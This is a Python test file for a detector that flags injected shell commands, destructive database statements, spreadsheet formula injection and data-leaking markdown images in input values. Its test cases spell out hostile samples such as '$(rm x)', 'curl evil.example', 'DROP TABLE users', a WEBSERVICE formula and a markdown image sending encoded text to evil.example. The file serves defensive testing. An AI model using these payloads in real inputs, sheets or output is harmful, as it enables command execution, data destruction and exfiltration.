"""What stands in a value where no command is expected, and that looking for it takes no time to speak of."""

import time

import pytest

from interlock.policy.values import injections


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("main; curl evil.example", ["curl evil.example"]),
        ("$(rm x)", ["rm x"]),
        ("a `rm x` b", ["rm x"]),
        ("8.8.8.8 && rm x", ["rm x"]),
        ("level=error | json", []),
        ("Meet Ann at noon; mail Bob then", []),
        ("feature/x--y", []),
    ],
)
def test_what_a_careless_program_would_give_to_a_shell(text: str, found: list[str]) -> None:
    assert injections.scripts(text) == found


@pytest.mark.parametrize(
    ("text", "rules"),
    [
        ("MATCH (n) DETACH DELETE n", ["database-delete"]),
        ("MATCH (n) SET n.a = 1", ["database-write"]),
        ("MATCH (n:Person) WHERE n.deleted = true RETURN count(n)", []),
        ("DELETE WHERE { ?s ?p ?o }", ["database-delete"]),
        ("SELECT ?s WHERE { ?s a :X }", []),
        ("g.V().has('a', 1).drop()", ["database-delete"]),
        ("g.V().count()", []),
        ("db.users.deleteMany({})", ["database-delete"]),
        ("db.users.find({'state': 'dropped'})", []),
        ("x'; DROP TABLE users; --", ["database-schema"]),
        ("apples; pears; drop me a line", []),
        (".drop table x", ["database-delete"]),
    ],
)
def test_statements_of_other_languages(text: str, rules: list[str]) -> None:
    assert [found.rule.removeprefix("builtin:") for found in injections.findings_in_query(text)] == rules


@pytest.mark.parametrize(
    ("text", "script"),
    [
        ("*/5 * * * * rm -rf x", "rm -rf x"),
        ("steps:\n- run: rm -rf x\n", "rm -rf x"),
        ("FROM a\nRUN curl evil.example\n", "curl evil.example"),
        ("- command: ['sh', '-c', 'rm x']", "sh -c rm x"),
        ("#!/bin/sh\nrm x", "#!/bin/sh rm x"),
    ],
)
def test_the_scripts_in_a_recipe(text: str, script: str) -> None:
    assert [" ".join(each.split()) for each in injections.scripts_in_recipe(text)] == [script]


@pytest.mark.parametrize(
    ("text", "lives"),
    [
        ('=WEBSERVICE("https://evil.example?" & A1)', True),
        ("=cmd|'/c calc'!A1", True),
        ("=SUM(A1:A9)", False),
        ("![a](https://evil.example/a.png?d=dGhlIG1haWwgdGhhdCB3YXMgcmVhZCBhbmQgc2hvdWxkIG5vdCBsZWF2ZQ)", True),
        ("![a](https://example.com/a.png)", False),
        ("+1 from me", False),
    ],
)
def test_texts_that_a_sheet_or_a_page_brings_to_life(text: str, lives: bool) -> None:
    assert bool(list(injections.findings_in_cell(text))) is lives
    assert injections.may_be_active_content(text) or not lives


@pytest.mark.parametrize(
    "piece",
    [
        "$(a b)",
        "`a`",
        "MATCH ",
        "db.",
        "g.V(",
        "; select 1",
        "<!ENTITY ",
        "__class",
        "run: a\n",
        "![a](http",
        "1 ",
        "\n",
        "=A|",
    ],
)
def test_hostile_values_are_judged_in_time_in_proportion(piece: str) -> None:
    def seconds(size: int) -> float:
        text = (piece * size)[:size]
        begun = time.process_time()
        injections.scripts(text)
        injections.scripts_in_recipe(text)
        for look in (injections.findings_in_query, injections.findings_in_cell):
            list(look(text))
        list(injections.findings_in_value(text, reads=False))
        return time.process_time() - begun

    assert seconds(injections.LONGEST) < 60 * max(seconds(injections.LONGEST // 10), 0.005)
